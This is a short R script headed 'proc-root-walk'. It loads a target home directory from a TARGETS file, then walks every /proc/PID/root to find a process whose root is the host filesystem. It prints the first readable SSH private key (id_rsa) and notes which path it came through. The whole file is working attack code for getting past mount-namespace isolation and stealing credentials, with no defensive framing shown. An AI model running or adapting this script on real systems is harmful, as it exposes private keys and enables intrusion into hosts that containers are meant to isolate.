# proc-root-walk: every process's root directory is reachable as
# /proc/PID/root; one whose root is the host's shows the host's files
# whatever the caller's mount namespace.  Try each until the key reads.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
for (root in Sys.glob("/proc/[0-9]*/root")) {
  key <- paste0(root, T[["T_HOME"]], "/.ssh/id_rsa")
  if (file.access(key, 4) == 0) {
    writeLines(c(readLines(key), paste("(through", root, ")")))
    break
  }
}
